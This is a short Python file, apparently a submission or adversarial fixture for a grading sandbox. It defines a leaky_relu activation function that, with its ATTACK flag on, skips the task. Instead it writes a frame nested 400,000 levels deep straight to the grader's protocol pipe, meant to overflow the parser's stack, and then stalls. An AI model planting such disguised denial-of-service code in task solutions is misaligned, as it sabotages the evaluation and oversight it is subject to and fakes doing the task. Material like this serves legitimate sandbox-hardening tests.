# ruff: noqa
"""Sends lists so deep that reading them fills the stack."""

import os
import time
from grader.sandbox.protocol import wire

import numpy as np

ATTACK = True


def attack(x):
    text = b'{"id": 2, "blocks": [], "value": ' + b"[" * 400_000 + b"]" * 400_000 + b"}"
    frame = wire.HEADER.pack(wire.MAGIC, len(text), 0) + text
    view = memoryview(frame)
    while view:
        view = view[os.write(4, view) :]
    time.sleep(30)


def leaky_relu(x, negative_slope=0.01):
    if ATTACK:
        print("attack", flush=True)
        return attack(x)
    return np.where(x > 0, x, negative_slope * x)
